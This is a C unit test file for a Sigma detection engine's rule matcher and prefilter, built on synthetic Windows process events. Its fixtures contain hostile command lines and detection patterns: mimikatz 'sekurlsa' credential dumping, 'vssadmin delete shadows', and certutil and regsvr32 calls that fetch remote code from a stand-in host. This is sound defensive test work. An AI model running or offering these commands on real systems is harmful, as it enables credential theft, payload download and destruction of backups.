/* test_sigma_match.c - the matcher against tests/sigma/matcher.test (rule, events, verdicts
 * worked out by hand from the Sigma specification), with and without the prefilter, plus the
 * engine's bookkeeping: skipped rules, filters, hit order.
 *
 * The data file keeps the semantics readable and reviewable apart from the C that runs them
 * (jq's tests/jq.test idea). */
#include "unit.h"

#include "core/alloc.h"
#include "core/intern.h"
#include "sigma/match.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define MAX_FIELDS 64

struct test_event {
    struct kz_event ev;
    struct kz_field fields[MAX_FIELDS];
    char text[8192];
    size_t used;
};

static int hexval(char c) {
    if (c >= '0' && c <= '9') return c - '0';
    if (c >= 'a' && c <= 'f') return c - 'a' + 10;
    if (c >= 'A' && c <= 'F') return c - 'A' + 10;
    return -1;
}

/* Adds `Name: value` / `Name:= escaped` / `@channel: X` / `@provider: X` / `@event_id: N` to
 * the event. */
static int event_line(struct test_event *t, const char *line) {
    const char *colon = strchr(line, ':');
    if (!colon) return -1;
    size_t nlen = (size_t)(colon - line);
    int escaped = colon[1] == '=';
    const char *v = colon + 1 + escaped;
    if (*v == ' ') v++;
    char *dst = t->text + t->used;
    size_t n = 0;
    for (; *v && *v != '\n'; v++) {
        char c = *v;
        if (escaped && c == '\\' && v[1]) {
            v++;
            if (*v == 'n')
                c = '\n';
            else if (*v == 't')
                c = '\t';
            else if (*v == 'x' && hexval(v[1]) >= 0 && hexval(v[2]) >= 0) {
                c = (char)(hexval(v[1]) * 16 + hexval(v[2]));
                v += 2;
            } else
                c = *v;
        }
        dst[n++] = c;
    }
    dst[n] = 0;
    t->used += n + 1;
    if (!strncmp(line, "@channel", nlen) && nlen == 8) {
        t->ev.channel = dst;
        return 0;
    }
    if (!strncmp(line, "@provider", nlen) && nlen == 9) {
        t->ev.provider = dst;
        return 0;
    }
    if (!strncmp(line, "@event_id", nlen) && nlen == 9) {
        t->ev.event_id = (uint32_t)strtoul(dst, NULL, 10);
        return 0;
    }
    if (t->ev.nfields == MAX_FIELDS) return -1;
    struct kz_field *f = &t->fields[t->ev.nfields++];
    f->name = kz_intern(line, nlen);
    f->section = KZ_SEC_EVENTDATA;
    f->len = (uint32_t)n;
    f->val = dst;
    return 0;
}

static void event_reset(struct test_event *t) {
    memset(&t->ev, 0, sizeof t->ev);
    t->used = 0;
    t->ev.format = KZ_FMT_EVTX;
    t->ev.channel = "Microsoft-Windows-Sysmon/Operational";
    t->ev.provider = "Microsoft-Windows-Sysmon";
    t->ev.event_id = 1;
    t->ev.fields = t->fields;
}

struct verdict {
    int want;
    struct test_event event;
};

static void count_hit(void *ctx, const struct kz_sigma_rule *r, uint32_t ri,
                      const struct kz_event *ev) {
    ++*(int *)ctx;
}

/* The fixture of the tests below: yaml loaded into rs as exactly one rule, then an engine (with
 * or without the prefilter) and its scratch over it. Each returns 0, or -1 after a failed check
 * that names `what` (the case) and the reason; rs and the engine are then already freed. */
static int fixture_rule(struct kz_sigma_ruleset *rs, const char *what, const char *yaml) {
    kz_sigma_ruleset_init(rs);
    struct kz_err err = {0};
    int rc = kz_sigma_load_buffer(rs, what, yaml, strlen(yaml), &err);
    if (!rc) rc = kz_sigma_ruleset_link(rs);
    if (rc || rs->nfailures || rs->nrules != 1) {
        CHECK_MSG(0, "%s: rule does not load: %s", what,
                  rs->nfailures ? rs->failures[0].reason : err.msg);
        kz_sigma_ruleset_free(rs);
        return -1;
    }
    return 0;
}

/* mode: FIXTURE_PREFILTER, FIXTURE_NO_PREFILTER, or FIXTURE_VALUE_CACHE (the prefilter with
 * the value cache on for every database, however small) */
enum { FIXTURE_PREFILTER, FIXTURE_NO_PREFILTER, FIXTURE_VALUE_CACHE };
static int fixture_engine(const struct kz_sigma_ruleset *rs, const char *what, int mode,
                          struct kz_sigma_engine **e, struct kz_sigma_scratch **s) {
    struct kz_sigma_engine_opts opts = {.no_prefilter = mode == FIXTURE_NO_PREFILTER,
                                        .value_cache_all = mode == FIXTURE_VALUE_CACHE};
    struct kz_err err = {0};
    *e = NULL;
    *s = NULL;
    if (kz_sigma_engine_new(e, rs, &opts, &err) || kz_sigma_scratch_new(*e, s)) {
        CHECK_MSG(0, "%s: engine: %s", what, err.msg[0] ? err.msg : "out of memory");
        kz_sigma_engine_free(*e);
        return -1;
    }
    return 0;
}

/* Runs one case: the rule from its detection lines, each event with and without prefilter,
 * and with the value cache on for every database: there each event is matched twice, so the
 * second time its values come from the cache. */
static void run_case(const char *name, const char *detection, struct verdict *v, int nv,
                     int *cases, int *events) {
    static char yaml[20000];
    snprintf(yaml, sizeof yaml,
             "title: matcher case %d\nlogsource:\n  product: windows\n"
             "  category: process_creation\ndetection:\n%.16000s",
             *cases + 1, detection);
    struct kz_sigma_ruleset rs;
    if (fixture_rule(&rs, name, yaml)) return;
    static const char *const modes[] = {"with prefilter", "without prefilter",
                                        "with prefilter and value cache"};
    for (int mode = FIXTURE_PREFILTER; mode <= FIXTURE_VALUE_CACHE; mode++) {
        struct kz_sigma_engine *e;
        struct kz_sigma_scratch *s;
        if (fixture_engine(&rs, name, mode, &e, &s)) break;
        uint32_t nskips;
        const struct kz_sigma_skip *skips = kz_sigma_engine_skips(e, &nskips);
        CHECK_MSG(nskips == 0, "case '%s': rule skipped: %s", name, nskips ? skips[0].reason : "");
        for (int i = 0; i < nv; i++)
            for (int round = 0; round < (mode == FIXTURE_VALUE_CACHE ? 2 : 1); round++) {
                int hits = 0;
                uint32_t n = kz_sigma_match(e, s, &v[i].event.ev, count_hit, &hits);
                CHECK_MSG((int)n == hits, "case '%s': return value %u, callbacks %d", name, n,
                          hits);
                CHECK_MSG(hits == v[i].want, "case '%s', event %d (%s, round %d): %s, expected %s",
                          name, i + 1, modes[mode], round + 1, hits ? "match" : "no match",
                          v[i].want ? "match" : "no match");
                if (mode == FIXTURE_PREFILTER) ++*events;
            }
        kz_sigma_scratch_free(s);
        kz_sigma_engine_free(e);
    }
    ++*cases;
    kz_sigma_ruleset_free(&rs);
}

KZ_TEST(sigma_match_spec_file) {
    FILE *f = fopen("tests/sigma/matcher.test", "r");
    if (!f) f = fopen("../tests/sigma/matcher.test", "r");
    REQUIRE(f);
    static struct verdict v[16];
    char line[4096], name[4096] = "", detection[16384] = "";
    int nv = 0, in_events = 0, cases = 0, events = 0;
    size_t dlen = 0;
    for (;;) {
        int eof = !fgets(line, sizeof line, f);
        if (eof || !strncmp(line, "=== ", 4)) {
            if (name[0]) run_case(name, detection, v, nv, &cases, &events);
            if (eof) break;
            snprintf(name, sizeof name, "%s", line + 4);
            name[strcspn(name, "\n")] = 0;
            nv = 0;
            in_events = 0;
            dlen = 0;
            detection[0] = 0;
            continue;
        }
        if (line[0] == '#' || !name[0]) continue;
        if (!strncmp(line, "--- ", 4)) {
            REQUIRE(nv < 16);
            event_reset(&v[nv].event);
            v[nv].want = !strncmp(line + 4, "match", 5);
            nv++;
            in_events = 1;
            continue;
        }
        if (in_events) {
            if (line[0] == '\n') continue;
            CHECK_MSG(event_line(&v[nv - 1].event, line) == 0, "case '%s': bad event line %s",
                      name, line);
        } else {
            size_t n = strlen(line);
            if (dlen + n < sizeof detection) {
                memcpy(detection + dlen, line, n + 1);
                dlen += n;
            }
        }
    }
    fclose(f);
    CHECK(cases >= 39);
    printf("sigma matcher spec: %d cases, %d events\n", cases, events);
}

/* ---- engine bookkeeping ---- */

static const char two_rules[] =
    "title: first\nid: 11111111-0000-0000-0000-000000000001\nlogsource:\n  product: windows\n"
    "  category: process_creation\ndetection:\n  sel:\n    Image|endswith: '\\x.exe'\n"
    "  condition: sel\n"
    "---\n"
    "title: second\nid: 11111111-0000-0000-0000-000000000002\nlogsource:\n  product: windows\n"
    "  category: process_creation\ndetection:\n  sel:\n    CommandLine|contains: 'go'\n"
    "  condition: sel\n"
    "---\n"
    "title: admins are fine\nlogsource:\n  product: windows\n  category: process_creation\n"
    "filter:\n  rules:\n    - 11111111-0000-0000-0000-000000000002\n  sel:\n"
    "    User|startswith: 'adm_'\n  condition: not sel\n"
    "---\n"
    "title: an aws rule\nlogsource:\n  product: aws\n  service: cloudtrail\ndetection:\n"
    "  sel:\n    eventName: x\n  condition: sel\n"
    "---\n"
    "title: placeholder\nlogsource:\n  product: windows\n  category: process_creation\n"
    "detection:\n  sel:\n    User|expand: '%admins%'\n  condition: sel\n";

struct order {
    int n;
    uint32_t idx[8];
};

static void record_hit(void *ctx, const struct kz_sigma_rule *r, uint32_t ri,
                       const struct kz_event *ev) {
    struct order *o = ctx;
    if (o->n < 8) o->idx[o->n++] = ri;
}

KZ_TEST(sigma_match_engine_filters_skips_order) {
    struct kz_sigma_ruleset rs;
    kz_sigma_ruleset_init(&rs);
    struct kz_err err = {0};
    REQUIRE(kz_sigma_load_buffer(&rs, "t.yml", two_rules, strlen(two_rules), &err) == 0);
    REQUIRE(kz_sigma_ruleset_link(&rs) == 0);
    REQUIRE(rs.nrules == 5);
    struct kz_sigma_engine *e;
    struct kz_sigma_scratch *s;
    REQUIRE(kz_sigma_engine_new(&e, &rs, NULL, &err) == 0);
    REQUIRE(kz_sigma_scratch_new(e, &s) == 0);
    const struct kz_sigma_engine_stats *st = kz_sigma_engine_stats(e);
    CHECK_INT(st->rules, 2);
    CHECK_INT(st->filters, 1);
    CHECK_INT(st->skipped, 2); /* aws (not read by kizuki) and the placeholder */
    uint32_t nskips;
    const struct kz_sigma_skip *skips = kz_sigma_engine_skips(e, &nskips);
    REQUIRE(nskips == 2);
    CHECK_STR(skips[0].rule->title, "an aws rule");
    CHECK(strstr(skips[1].reason, "expand") != NULL);

    struct test_event *t = kz_calloc(1, sizeof *t);
    REQUIRE(t);
    event_reset(t);
    event_line(t, "Image: C:\\x.exe");
    event_line(t, "CommandLine: x --go");
    event_line(t, "User: bob");
    struct order o = {0};
    CHECK_INT(kz_sigma_match(e, s, &t->ev, record_hit, &o), 2);
    CHECK_INT(o.n, 2);
    CHECK_INT(o.idx[0], 0); /* rule order */
    CHECK_INT(o.idx[1], 1);

    /* The filter removes the second rule's match for admins, not the first rule's. */
    event_reset(t);
    event_line(t, "Image: C:\\x.exe");
    event_line(t, "CommandLine: x --go");
    event_line(t, "User: ADM_alice");
    memset(&o, 0, sizeof o);
    CHECK_INT(kz_sigma_match(e, s, &t->ev, record_hit, &o), 1);
    CHECK_INT(o.idx[0], 0);
    CHECK_INT(kz_sigma_scratch_stats(s)->filtered, 1);

    kz_free(t);
    kz_sigma_scratch_free(s);
    kz_sigma_engine_free(e);
    kz_sigma_ruleset_free(&rs);
}

/* ---- the prefilter: field-scoped literals, ANDed clauses, regex literals ----
 *
 * The prefilter may only let through more than exact evaluation accepts, never less; here it is
 * also checked that it lets through less than "a literal anywhere in the event": a rule is a
 * candidate (evaluated exactly) only when its literals occur in the fields its items name, and in
 * every part of an AND. Verdicts are worked out by hand from each rule's text; each event is also
 * run without the prefilter, which must give the same verdict. */

struct probe {
    int hits, hits_np;   /* with and without the prefilter */
    int hits_vc[2];      /* with the value cache on for every database: first sight, then again */
    uint64_t candidates; /* rule variants evaluated, with the prefilter */
};

/* Runs event t through one rule (rule_yaml: a whole document) with and without the prefilter. */
static struct probe prefilter_probe(const char *rule_yaml, const struct test_event *t) {
    struct probe p = {-1, -1, {-1, -1}, 0};
    struct kz_sigma_ruleset rs;
    if (fixture_rule(&rs, "probe.yml", rule_yaml)) return p;
    for (int mode = 0; mode < 3; mode++) {
        struct kz_sigma_engine *e;
        struct kz_sigma_scratch *s;
        if (fixture_engine(&rs, "probe.yml", mode, &e, &s)) break;
        int hits = 0;
        kz_sigma_match(e, s, &t->ev, count_hit, &hits);
        if (mode == FIXTURE_NO_PREFILTER) {
            p.hits_np = hits;
        } else if (mode == FIXTURE_VALUE_CACHE) {
            p.hits_vc[0] = hits;
            hits = 0;
            kz_sigma_match(e, s, &t->ev, count_hit, &hits);
            p.hits_vc[1] = hits;
        } else {
            p.hits = hits;
            p.candidates = kz_sigma_scratch_stats(s)->candidates;
        }
        kz_sigma_scratch_free(s);
        kz_sigma_engine_free(e);
    }
    kz_sigma_ruleset_free(&rs);
    return p;
}

#define PROBE_RULE(detection)                                                                      \
    "title: probe\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n"    \
    detection

/* want: the verdict; want_cand: 1 when the prefilter must pass the rule, 0 when it must not. */
#define CHECK_PROBE(rule, t, want, want_cand)                                                      \
    do {                                                                                           \
        struct probe p_ = prefilter_probe(rule, t);                                                \
        CHECK_INT(p_.hits, want);                                                                  \
        CHECK_INT(p_.hits_np, want);                                                               \
        CHECK_INT(p_.hits_vc[0], want);                                                            \
        CHECK_INT(p_.hits_vc[1], want);                                                            \
        CHECK_INT(p_.candidates, want_cand);                                                       \
    } while (0)

KZ_TEST(sigma_match_prefilter_field_scoped) {
    struct test_event *t = kz_calloc(1, sizeof *t);
    REQUIRE(t);
    /* `\mshta.exe` must be in Image; `vbscript:execute` in CommandLine (both long enough to
     * be kept as clauses of the AND: see docs/rules.md). */
    static const char contains_rule[] = PROBE_RULE("  sel:\n    Image|contains: '\\mshta.exe'\n"
                                                   "    CommandLine|contains: 'vbscript:execute'\n"
                                                   "  condition: sel\n");
    /* Both texts are in the event, but `\mshta.exe` only in the command line: Image does not
     * contain it, so no match, and the prefilter does not even pass the rule. */
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
    event_line(t, "CommandLine: cmd /c C:\\Windows\\System32\\mshta.exe vbscript:Execute(\"x\")");
    CHECK_PROBE(contains_rule, t, 0, 0);
    /* In its field (any case): a candidate, and a match. */
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\MSHTA.exe");
    event_line(t, "CommandLine: mshta vbscript:Execute(\"x\")");
    CHECK_PROBE(contains_rule, t, 1, 1);
    /* In its field, but the other part of the AND is missing everywhere: not a candidate. */
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\mshta.exe");
    event_line(t, "CommandLine: mshta http://example.test/a.hta");
    CHECK_PROBE(contains_rule, t, 0, 0);

    /* An exact value is found only as the whole value of its own field. */
    static const char exact_rule[] = PROBE_RULE("  sel:\n    OriginalFileName: 'HH.exe'\n"
                                                "  condition: sel\n");
    event_reset(t);
    event_line(t, "Description: HH.exe");
    event_line(t, "OriginalFileName: notepad.exe");
    CHECK_PROBE(exact_rule, t, 0, 0);
    event_reset(t);
    event_line(t, "Description: HH.exe");
    event_line(t, "OriginalFileName: hh.EXE");
    CHECK_PROBE(exact_rule, t, 1, 1);

    /* A field repeated in the event (unnamed <Data> items): any instance will do. */
    event_reset(t);
    event_line(t, "OriginalFileName: notepad.exe");
    event_line(t, "OriginalFileName: HH.exe");
    CHECK_PROBE(exact_rule, t, 1, 1);

    /* On Security 4688 the rule's Image is read from NewProcessName: the literal counts there,
     * and not in the command line. */
    static const char image_rule[] = PROBE_RULE("  sel:\n    Image|endswith: '\\mshta.exe'\n"
                                                "  condition: sel\n");
    event_reset(t);
    t->ev.channel = "Security";
    t->ev.provider = "Microsoft-Windows-Security-Auditing";
    t->ev.event_id = 4688;
    event_line(t, "NewProcessName: C:\\Windows\\System32\\mshta.exe");
    event_line(t, "CommandLine: mshta.exe a.hta");
    CHECK_PROBE(image_rule, t, 1, 1);
    event_reset(t);
    t->ev.channel = "Security";
    t->ev.provider = "Microsoft-Windows-Security-Auditing";
    t->ev.event_id = 4688;
    event_line(t, "NewProcessName: C:\\Windows\\System32\\cmd.exe");
    event_line(t, "CommandLine: cmd /c C:\\Windows\\System32\\mshta.exe");
    CHECK_PROBE(image_rule, t, 0, 0);

    /* Keywords have no field: a keyword anywhere passes. */
    static const char keyword_rule[] = PROBE_RULE("  keywords:\n    - 'mimikatz'\n"
                                                  "  condition: keywords\n");
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
    event_line(t, "ParentCommandLine: run Mimikatz.exe");
    CHECK_PROBE(keyword_rule, t, 1, 1);

    /* Keywords beside named fields: with the value cache, the fields no rule names are scanned
     * with the keywords alone (prefilter.c); a keyword counts in those and in the named ones. */
    static const char mixed_rule[] = PROBE_RULE("  keywords:\n    - 'sekurlsa::'\n"
                                                "  sel:\n    CommandLine|contains: 'whoami /all'\n"
                                                "  condition: keywords or sel\n");
    event_reset(t);
    event_line(t, "CommandLine: cmd /c whoami");
    event_line(t, "Description: run sekurlsa::logonpasswords");
    CHECK_PROBE(mixed_rule, t, 1, 1);
    event_reset(t);
    event_line(t, "Description: run mimikatz");
    event_line(t, "CommandLine: x sekurlsa::pth");
    CHECK_PROBE(mixed_rule, t, 1, 1);
    event_reset(t);
    event_line(t, "CommandLine: cmd /c whoami /ALL");
    event_line(t, "Description: sekurlsa:");
    CHECK_PROBE(mixed_rule, t, 1, 1);
    event_reset(t);
    event_line(t, "CommandLine: cmd /c whoami");
    event_line(t, "Description: sekurlsa:");
    CHECK_PROBE(mixed_rule, t, 0, 0);
    /* A field no rule names as short as the keyword itself is still scanned. */
    event_reset(t);
    event_line(t, "CommandLine: cmd /c whoami");
    event_line(t, "Description: SEKURLSA::");
    CHECK_PROBE(mixed_rule, t, 1, 1);

    /* Vectorscan 5.4.9's AVX-512 code misses `urls` a few bytes before the end of a long value
     * when the database also holds `mrvx` (hsrun.c): every scan goes through a checked one. */
    static const char avx512_rule[] = PROBE_RULE("  keywords:\n    - 'urls'\n    - 'mrvx'\n"
                                                 "  condition: keywords\n");
    event_reset(t);
    event_line(t, "Description: xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx"
                  "xxxxxxxxxx run sekurlsl");
    CHECK_PROBE(avx512_rule, t, 1, 1);
    kz_free(t);
}

KZ_TEST(sigma_match_prefilter_terms) {
    struct test_event *t = kz_calloc(1, sizeof *t);
    REQUIRE(t);
    /* `1 of selection_*`: either selection's own AND must be complete. */
    static const char or_rule[] =
        PROBE_RULE("  selection_a:\n    Image|endswith: '\\rundll32.exe'\n"
                   "    CommandLine|contains: 'javascript:'\n"
                   "  selection_b:\n    Image|endswith: '\\regsvr32.exe'\n"
                   "    CommandLine|contains: 'scrobj.dll'\n"
                   "  condition: 1 of selection_*\n");
    /* rundll32 with regsvr32's argument: half of each selection, neither whole. */
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\rundll32.exe");
    event_line(t, "CommandLine: rundll32 /i:http://x scrobj.dll");
    CHECK_PROBE(or_rule, t, 0, 0);
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\regsvr32.exe");
    event_line(t, "CommandLine: regsvr32 /s /i:http://x scrobj.dll");
    CHECK_PROBE(or_rule, t, 1, 1);

    /* |all: every value is required, in its field. */
    static const char all_rule[] = PROBE_RULE("  sel:\n    CommandLine|contains|all:\n"
                                              "      - 'vssadmin'\n      - 'delete shadows'\n"
                                              "  condition: sel\n");
    event_reset(t);
    event_line(t, "CommandLine: vssadmin list shadows");
    event_line(t, "ParentCommandLine: delete shadows");
    CHECK_PROBE(all_rule, t, 0, 0);
    event_reset(t);
    event_line(t, "CommandLine: vssadmin.exe Delete Shadows /all /quiet");
    CHECK_PROBE(all_rule, t, 1, 1);

    /* A regex's required text: `"{` (the group must match once); without it, no candidate. */
    static const char re_rule[] = PROBE_RULE("  sel:\n    CommandLine|re: '\"(?:\\{\\d\\})+\"\\s*-f'\n"
                                             "  condition: sel\n");
    event_reset(t);
    event_line(t, "CommandLine: powershell \"{1}{0}\" -f 'ke','invo'");
    CHECK_PROBE(re_rule, t, 1, 1);
    event_reset(t);
    event_line(t, "CommandLine: powershell -f {1}{0}");
    CHECK_PROBE(re_rule, t, 0, 0);
    /* The literal in the field but the expression not matching: a candidate, no match. */
    event_reset(t);
    event_line(t, "CommandLine: echo \"{x}\" -f");
    CHECK_PROBE(re_rule, t, 0, 1);

    /* `and not`: the exclusion requires nothing; the positive part still gates. */
    static const char not_rule[] = PROBE_RULE("  sel:\n    Image|endswith: '\\certutil.exe'\n"
                                              "  filter:\n    CommandLine|contains: '-verify'\n"
                                              "  condition: sel and not filter\n");
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\certutil.exe");
    event_line(t, "CommandLine: certutil -urlcache -f http://x/a a");
    CHECK_PROBE(not_rule, t, 1, 1);
    event_reset(t);
    event_line(t, "Image: C:\\Windows\\System32\\cmd.exe");
    event_line(t, "CommandLine: cmd /c certutil.exe");
    CHECK_PROBE(not_rule, t, 0, 0);
    kz_free(t);
}
